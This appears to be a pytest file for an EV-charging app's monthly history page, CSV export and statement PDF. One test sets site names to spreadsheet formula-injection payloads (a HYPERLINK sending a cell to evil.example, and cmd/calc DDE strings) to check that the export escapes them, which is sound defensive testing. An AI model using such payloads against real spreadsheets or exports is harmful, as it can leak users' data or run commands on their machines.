"""The history pages: a month of charging sessions, top-ups and documents; the CSV export; the statement PDF.

Data comes from the real services: a top-up through our wallet pages and
localstripe, charging sessions through ``webapp.charging.service`` (their
invoices are issued at capture), a refund with its credit note. Then each
person's rows are moved to chosen months (as if they had happened then), so
that what a month shows is known exactly, whatever the day the tests run.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from zoneinfo import ZoneInfo

import pytest
from pypdf import PdfReader
from sqlalchemy import select, update

from payments.base import utcnow
from payments.cards import CardPayment
from payments.invoicing import Document, DocumentKind
from payments.ledger import AccountKind, JournalEntry, get_account, transfer
from payments.money import Money
from payments import wallet
from tests.stripe_browser import VISA
from tests.webapp.test_charging_service import charge, db, make_site, start
from tests.webapp.wallet_helpers import (  # noqa: F401  (app_config and ana are fixtures)
    ana,
    app_config,
    payment_id_of,
    save_card,
    sign_in,
    text,
    top_up,
)
from webapp.charging import service
from webapp.charging.models import ChargingSession
from webapp.history.service import Month
from webapp.models import Site, User

JAN = dt.datetime(2026, 1, 20, 10, 0, tzinfo=dt.UTC)
FEB = dt.datetime(2026, 2, 10, 9, 30, tzinfo=dt.UTC)
MAR = dt.datetime(2026, 3, 5, 18, 0, tzinfo=dt.UTC)


# -- helpers ---------------------------------------------------------------------------------------


def move_session(app, session_id: int, when: dt.datetime) -> None:
    """Make a charging session, its invoice and credit notes, and its wallet bookings look as if they happened at ``when``."""
    with app.extensions["db_sessionmaker"].begin() as s:
        s.execute(update(ChargingSession).where(ChargingSession.id == session_id).values(created_at=when))
        s.execute(update(Document).where(Document.source == f"session:{session_id}").values(issued_at=when + dt.timedelta(hours=1)))
        s.execute(update(JournalEntry).where((JournalEntry.reference == f"session:{session_id}") | JournalEntry.reference.like(f"session:{session_id}:%"))
                  .values(created_at=when))


def move_top_up(app, payment_id: int, when: dt.datetime) -> None:
    """Make a top-up, its receipt and its wallet credit look as if they happened at ``when``."""
    with app.extensions["db_sessionmaker"].begin() as s:
        s.execute(update(CardPayment).where(CardPayment.id == payment_id).values(created_at=when))
        s.execute(update(Document).where(Document.source == f"card_payment:{payment_id}").values(issued_at=when))
        s.execute(update(JournalEntry).where(JournalEntry.reference == f"card_payment:{payment_id}").values(created_at=when))


def paid_session(app, user, code: str = "A101", kwh: int = 7) -> int:
    """A wallet-paid session of ``kwh`` kWh (0.35 €/kWh + 21 % VAT), charged and billed; its id."""
    cs = start(app, user, code=code).session
    t0 = utcnow() - dt.timedelta(hours=1)
    charge(app, cs, t0, kwh_at=[(300, kwh * 500)], stop_s=600, stop_wh=kwh * 1000)
    return cs.id


def refund(app, session_id: int, cents: int) -> None:
    """Give ``cents`` of a session back to the wallet (a credit note is issued)."""
    with app.app_context(), db(app) as s:
        service.refund_session(s, None, session_id, Money(cents, "EUR"), reason="charger fault", key="r1", now=utcnow())


def gift(app, user, cents: int) -> None:
    """Money in ``user``'s wallet without a card (someone else's wallet in these tests)."""
    with app.extensions["db_sessionmaker"].begin() as s:
        transfer(s, idempotency_key=f"gift:{user.id}", description="test", debit=get_account(s, AccountKind.PROVIDER_CLEARING, "EUR"),
                 credit=wallet.wallet(s, user.owner, "EUR"), amount=Money(cents, "EUR"))


def ids(response, what: str) -> list[str]:
    """The ``data-id`` of each row ``history-<what>`` on the page, in order."""
    return re.findall(rf'data-testid="history-{what}" data-id="([^"]+)"', response.get_data(as_text=True))


def csv_of(response) -> list[dict]:
    """The CSV export, read as a spreadsheet program's import would."""
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8"), newline="")))


def pdf_text(response) -> str:
    """The text of every page of the PDF."""
    assert response.status_code == 200 and response.mimetype == "application/pdf", response.get_data()[:500]
    reader = PdfReader(io.BytesIO(response.get_data()))
    return "\n".join(page.extract_text() for page in reader.pages)


def documents_of(app, owner: str) -> list[Document]:
    with app.extensions["db_sessionmaker"]() as s:
        return list(s.scalars(select(Document).where(Document.owner == owner).order_by(Document.id)))


@pytest.fixture
def months(app, client, ana, stripe_config):
    """Ana's January top-up of €50 (receipt), February session of 7 kWh (€2.96, €1.00 refunded), March session of 5 kWh (€2.12);
    Bob's February session of 6 kWh. Ana is signed in."""
    make_site(app)
    payment_id = payment_id_of(top_up(client, save_card(client, stripe_config, VISA), preset="5000"))
    feb = paid_session(app, ana, "A101", kwh=7)
    refund(app, feb, 100)
    mar = paid_session(app, ana, "A101", kwh=5)
    with app.extensions["db_sessionmaker"].begin() as s:
        bob = User(email="bob@example.com", password_hash="x")
        s.add(bob)
    gift(app, bob, 5000)
    bobs = paid_session(app, bob, "A101", kwh=6)
    move_top_up(app, payment_id, JAN)
    move_session(app, feb, FEB)
    move_session(app, mar, MAR)
    move_session(app, bobs, FEB + dt.timedelta(days=1))
    return {"top_up": payment_id, "feb": feb, "mar": mar, "bob": bobs, "bob_owner": bob.owner}


# -- the page --------------------------------------------------------------------------------------


def test_a_month_shows_only_its_own_sessions_top_ups_and_documents(app, client, ana, months):
    docs = {d.source: d for d in documents_of(app, ana.owner) if d.kind != DocumentKind.CREDIT_NOTE}
    [credit] = [d for d in documents_of(app, ana.owner) if d.kind == DocumentKind.CREDIT_NOTE]

    feb = client.get("/account/history?month=2026-02")
    assert feb.status_code == 200
    assert ids(feb, "session") == [str(months["feb"])]
    assert ids(feb, "top-up") == []
    assert ids(feb, "document") == [docs["session:%d" % months["feb"]].number, credit.number]
    page = text(feb)
    assert "February 2026" in page
    assert "Car park · A101" in page and "7.00 kWh" in page and "€2.96" in page and "Refunded €1.00" in page
    feb_invoice = docs[f"session:{months['feb']}"].number
    assert f"Invoice {feb_invoice}" in page
    assert "Credit note" in page and "-€1.00" in page  # a credit note is money back: negative
    assert f'href="/s/{months["feb"]}"' in feb.get_data(as_text=True)
    assert "Wallet (EUR) €50.00 at the start, €48.04 at the end" in page  # 50.00 − 2.96 + 1.00

    jan = client.get("/account/history?month=2026-01")
    assert ids(jan, "session") == [] and ids(jan, "document") == [docs[f"card_payment:{months['top_up']}"].number]
    assert ids(jan, "top-up") == [str(months["top_up"])]
    assert "Visa •••• 4242" in text(jan) and "€50.00" in text(jan) and "Added" in text(jan)

    mar = client.get("/account/history?month=2026-03")
    assert ids(mar, "session") == [str(months["mar"])] and "€2.12" in text(mar)
    assert ids(client.get("/account/history?month=2025-12"), "session") == []

    # previous / next
    body = feb.get_data(as_text=True)
    assert 'href="/account/history?month=2026-01"' in body and 'href="/account/history?month=2026-03"' in body


def test_another_persons_rows_never_appear(app, client, ana, months):
    bobs_numbers = [d.number for d in documents_of(app, months["bob_owner"])]
    assert bobs_numbers  # Bob's session was invoiced
    for month in ("2026-01", "2026-02", "2026-03"):
        page = client.get(f"/account/history?month={month}")
        assert str(months["bob"]) not in ids(page, "session")
        assert not set(bobs_numbers) & set(ids(page, "document"))
        assert "6.00 kWh" not in text(page) and "€2.54" not in text(page)  # Bob's 6 kWh × 0.4235
        export = csv_of(client.get(f"/account/history.csv?month={month}"))
        assert not [r for r in export if r["energy_kwh"] == "6.000" or r["id"] in bobs_numbers + [str(months["bob"])]]
        statement = pdf_text(client.get(f"/account/statement/{month}.pdf"))
        assert "6.00 kWh" not in statement and not [n for n in bobs_numbers if n in statement]


def test_the_current_month_is_the_default_and_signed_out_people_are_sent_to_sign_in(app, client, ana):
    before = Month.of(utcnow(), dt.UTC)
    page = client.get("/account/history")
    after = Month.of(utcnow(), dt.UTC)
    assert page.status_code == 200
    assert f'value="{before}"' in page.get_data(as_text=True) or f'value="{after}"' in page.get_data(as_text=True)
    assert "No charging sessions in this month." in text(page)
    assert 'data-testid="next-month"' not in page.get_data(as_text=True)  # nothing to see in the future

    client.post("/auth/sign-out")
    for path in ("/account/history", "/account/history.csv?month=2026-02", "/account/statement/2026-02.pdf"):
        response = client.get(path)
        assert response.status_code == 302 and "/auth/sign-in" in response.headers["Location"]


@pytest.mark.parametrize("path", [
    "/account/history?month=2026-13",
    "/account/history?month=2026-2",
    "/account/history?month=february",
    "/account/history?month=1999-12",
    "/account/history.csv?month=2026-00",
    "/account/statement/2026-1.pdf",
    "/account/statement/latest.pdf",
])
def test_a_bad_month_is_a_400_page_that_says_how_to_write_one(client, ana, path):
    response = client.get(path)
    assert response.status_code == 400
    assert "is not a month. Write the month as year and month, for example" in text(response)


# -- CSV -------------------------------------------------------------------------------------------


def test_the_csv_has_the_same_rows_as_the_page(app, client, ana, months):
    for month in ("2026-01", "2026-02", "2026-03"):
        page = client.get(f"/account/history?month={month}")
        response = client.get(f"/account/history.csv?month={month}")
        assert response.headers["Content-Disposition"] == f'attachment; filename="voltpay-history-{month}.csv"'
        rows = csv_of(response)
        assert [r["id"] for r in rows if r["type"] == "charging_session"] == ids(page, "session")
        assert [r["id"] for r in rows if r["type"] == "wallet_top_up"] == ids(page, "top-up")
        assert [r["id"] for r in rows if r["type"] == "document"] == ids(page, "document")

    rows = csv_of(client.get("/account/history.csv?month=2026-02"))
    assert list(rows[0]) == ["type", "id", "date", "site", "connector", "energy_kwh", "kind", "amount", "refunded", "currency", "state",
                             "card_brand", "card_last4", "document", "original_document"]
    session, invoice, credit = rows
    assert (session["site"], session["connector"], session["energy_kwh"], session["amount"], session["refunded"], session["currency"],
            session["state"]) == ("Car park", "A101", "7.000", "2.96", "1.00", "EUR", "completed")
    assert dt.datetime.fromisoformat(session["date"]) == FEB
    assert (invoice["kind"], invoice["amount"], session["document"]) == ("invoice", "2.96", invoice["id"])
    assert (credit["kind"], credit["amount"], credit["original_document"]) == ("credit_note", "-1.00", invoice["id"])
    [top] = csv_of(client.get("/account/history.csv?month=2026-01"))[:1]
    assert (top["type"], top["amount"], top["currency"], top["state"], top["card_brand"], top["card_last4"]) == \
        ("wallet_top_up", "50.00", "EUR", "succeeded", "visa", "4242")


def test_the_csv_cannot_run_formulas_in_a_spreadsheet(app, client, ana, months):
    with app.extensions["db_sessionmaker"].begin() as s:
        s.execute(update(Site).values(name='=HYPERLINK("http://evil.example/?"&A1,"Click")'))
    [session, *_] = csv_of(client.get("/account/history.csv?month=2026-02"))
    assert session["site"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    for name in ("+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"):
        with app.extensions["db_sessionmaker"].begin() as s:
            s.execute(update(Site).values(name=name))
        [session, invoice, credit] = csv_of(client.get("/account/history.csv?month=2026-02"))
        assert session["site"] == "'" + name
        assert credit["amount"] == "-1.00"  # our own numbers stay numbers


# -- the statement PDF -----------------------------------------------------------------------------


def _amounts(line: str) -> list[int]:
    """The euro amounts of a line of English text, in cents ("-€2.96" → −296)."""
    return [int(sign + whole.replace(",", "") + cents) for sign, whole, cents in re.findall(r"(-?)€([\d,]+)\.(\d\d)", line)]


def test_the_statement_adds_up_opening_plus_movements_is_closing(app, client, ana, months):
    response = client.get("/account/statement/2026-02.pdf")
    assert response.headers["Content-Disposition"] == 'inline; filename="voltpay-statement-2026-02.pdf"'
    body = pdf_text(response)
    assert "Monthly statement" in body and "February 2026" in body and "ana@example.com" in body
    lines = body.splitlines()
    [opening] = [line for line in lines if "Opening balance" in line]
    [closing] = [line for line in lines if "Closing balance" in line]
    assert _amounts(opening) == [5000] and _amounts(closing) == [4804]
    wallet_lines = lines[lines.index(opening) + 1:lines.index(closing)]
    movements = [_amounts(line) for line in wallet_lines if _amounts(line)]
    assert movements, body
    running = 5000
    for amount, balance_after in movements:  # each line: the movement and the balance after it
        running += amount
        assert balance_after == running
    assert running == 4804 == 5000 - 296 + 100
    assert "Money in: €" in body and "Money out: -€" in body

    # the month's sessions and documents, and the totals per currency
    docs = documents_of(app, ana.owner)
    for d in docs:
        if d.source == f"session:{months['feb']}":
            assert d.number in body
    assert "Car park · A101" in body and "7.00 kWh" in body
    [totals] = [line for line in lines if line.startswith("EUR ")]
    assert _amounts(totals) == [296, 100, 0, 196]  # paid, refunded, topped up, documents (2.96 − 1.00)

    # March opens where February closed
    march = pdf_text(client.get("/account/statement/2026-03.pdf")).splitlines()
    [march_opening] = [line for line in march if "Opening balance" in line]
    assert _amounts(march_opening) == [4804]
    # January: the top-up and its receipt
    january = pdf_text(client.get("/account/statement/2026-01.pdf"))
    assert "Visa •••• 4242" in january and "Wallet top-up" in january


def test_the_statement_is_in_the_accounts_language(app, client, ana, months):
    with app.extensions["db_sessionmaker"].begin() as s:
        s.execute(update(User).where(User.id == ana.id).values(locale="es"))
        s.execute(update(Site).values(name="北京朝阳充电站"))
    spanish = pdf_text(client.get("/account/statement/2026-02.pdf"))
    assert "50,00\xa0€" in spanish and "48,04\xa0€" in spanish  # Spanish number format (a no-break space before the sign)
    assert "febrero de 2026" in spanish

    with app.extensions["db_sessionmaker"].begin() as s:
        s.execute(update(User).where(User.id == ana.id).values(locale="zh"))
    chinese = pdf_text(client.get("/account/statement/2026-02.pdf"))
    assert "2026年2月" in chinese
    assert "北京朝阳充电站" in chinese  # drawn with a CJK font: extracted as the same characters


# -- months ----------------------------------------------------------------------------------------


def test_months_parse_step_and_bound_in_the_pages_time_zone():
    assert Month.parse("2026-02") == Month(2026, 2) and str(Month(2026, 2)) == "2026-02"
    assert Month(2026, 1).previous() == Month(2025, 12) and Month(2025, 12).next() == Month(2026, 1)
    madrid = ZoneInfo("Europe/Madrid")
    assert Month(2026, 2).bounds(dt.UTC) == (dt.datetime(2026, 2, 1, tzinfo=dt.UTC), dt.datetime(2026, 3, 1, tzinfo=dt.UTC))
    # winter time (+01:00) at the start, summer time (+02:00) at the end of March
    assert Month(2026, 3).bounds(madrid) == (dt.datetime(2026, 2, 28, 23, tzinfo=dt.UTC), dt.datetime(2026, 3, 31, 22, tzinfo=dt.UTC))


def test_with_pages_in_madrid_time_a_session_after_local_midnight_is_in_the_next_month(app, client, make_user):
    ana = make_user("ana@example.com")
    make_site(app)
    gift(app, ana, 5000)
    late = paid_session(app, ana)
    move_session(app, late, dt.datetime(2026, 1, 31, 23, 30, tzinfo=dt.UTC))  # 00:30 on 1 February in Madrid
    # webapp.config pins the pages' zone to UTC today; the month follows whatever zone flask-babel shows times in.
    app.extensions["babel"].default_timezone = "Europe/Madrid"
    sign_in(client, "ana@example.com")
    assert ids(client.get("/account/history?month=2026-02"), "session") == [str(late)]
    assert ids(client.get("/account/history?month=2026-01"), "session") == []
    assert "2/1/26, 12:30 AM" in text(client.get("/account/history?month=2026-02"))
    [row] = [r for r in csv_of(client.get("/account/history.csv?month=2026-02")) if r["type"] == "charging_session"]
    assert dt.datetime.fromisoformat(row["date"]) == dt.datetime(2026, 1, 31, 23, 30, tzinfo=dt.UTC)  # the file is in UTC
